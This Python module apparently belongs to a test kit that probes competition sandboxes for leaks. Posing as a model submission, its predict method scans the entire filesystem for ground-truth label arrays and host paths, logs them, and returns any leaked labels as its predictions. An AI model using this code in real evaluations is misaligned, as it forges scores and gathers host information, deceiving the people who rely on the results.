"""Look for the answers everywhere the child can read. Walk every folder of the sandbox (all
of it but /proc, /sys and /dev), at each predict call (the shifted sets and anything written
beside them arrive while the model runs), and keep every array of as many integer labels as
X has images, and every file that names a place of the host (the workspace, the runs folder,
the home folder). predict returns the first labels found, so a leak is a forged score too.
For the other kinds of competition (masks, forecasts, string labels) it keeps the sha256 of
every array with as many rows as X in a few canonical forms, which the test compares with
the truth's; its predictions are zeros shaped as targets.json's "out" says.

SUBKIT_TTA: the word is here so that --tta-compare runs this file a second time."""

import os
import sys

import numpy as np

from attack_common import HERE, take, targets

T = targets()
SKIP = ("/proc", "/sys", "/dev")
SYSTEM = ("/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/etc",
          os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix))
OWN = {"model.py", "attack_common.py", "targets.json", "loot.json"}
HOST = [T["workspace"], T["runs_root"], T["home"]]
FOUND = {"labels": [], "host_paths": [], "files_seen": 0, "hashes": []}
OUT = T.get("out", {"tail": [], "dtype": "int64"})


def _hashes(a):
    """sha256 of an array's canonical forms: its own bytes, as int64, as float64."""
    import hashlib

    a = np.ascontiguousarray(a)
    forms = [a]
    if a.dtype.kind in "uifb":
        forms += [a.astype(np.int64), a.astype(np.float64)]
    return [hashlib.sha256(f.tobytes()).hexdigest() for f in forms]


def _under(path, roots):
    return any(path == r or path.startswith(r.rstrip("/") + "/") for r in roots)


def _labels_in(path, n):
    """The label-like arrays of an .npy/.npz file: n integers, (n,) or (n, 1)."""
    got = []
    if path.endswith(".npz"):
        with np.load(path, allow_pickle=False) as z:
            arrays = [z[k] for k in z.files]
    else:
        arrays = [np.load(path, allow_pickle=False)]
    for a in arrays:
        a = np.asarray(a)
        if a.ndim and a.shape[0] == n:
            FOUND["hashes"] += _hashes(a) + (_hashes(a.reshape(-1)) if a.size == n else [])
        if a.dtype.kind in "uif" and a.size == n and a.ndim <= 2 and a.shape[0] == n:
            if a.dtype.kind != "f" or np.all(a == np.round(a)):
                got.append(a.reshape(-1).astype(np.int64))
    return got


def _file(path, n, system):
    FOUND["files_seen"] += 1
    try:
        size = os.path.getsize(path)
    except OSError:
        return None
    labels = None
    if path.endswith((".npy", ".npz")) and size < (64 << 20):
        try:
            arrays = _labels_in(path, n)
        except Exception:  # noqa: BLE001 - not an array file after all
            arrays = []
        if arrays:
            FOUND["labels"].append(path)
            labels = arrays[0]
    if not system and size < (16 << 20):
        try:
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError:
            return labels
        if any(h.encode() in data for h in HOST):
            FOUND["host_paths"].append(path)
    return labels


def walk(n):
    """Every file once per call; the first label array found."""
    first = None
    FOUND["labels"], FOUND["host_paths"], FOUND["files_seen"] = [], [], 0
    FOUND["hashes"] = []
    for root, dirs, files in os.walk("/", followlinks=False):
        if _under(root, SKIP):
            dirs[:] = []
            continue
        system = _under(root, SYSTEM)
        for name in files:
            path = os.path.join(root, name)
            if root == HERE and name in OWN or os.path.islink(path):
                continue
            if root == "/app/output" and name.startswith(("predictions", "proba")):
                continue  # what this child's own predict calls returned
            got = _file(path, n, system)
            if first is None and got is not None:
                first = got
    return first


class Model:
    def __init__(self, *args):  # Model() on Codabench, model(path) on CodaLab
        self.calls = 0

    def predict(self, X, *more):
        self.calls += 1
        labels = walk(len(X))
        take(f"walk {self.calls}", dict(FOUND, cwd=os.getcwd()))
        if labels is not None and not OUT["tail"]:
            take("labels_from", FOUND["labels"][0])
            return labels
        return np.zeros((len(X), *OUT["tail"]), dtype=OUT["dtype"])

    def predict_proba(self, X):
        p = np.zeros((len(X), 8), np.float32)
        p[:, 0] = 1
        return p


model = Model  # CodaLab's class name
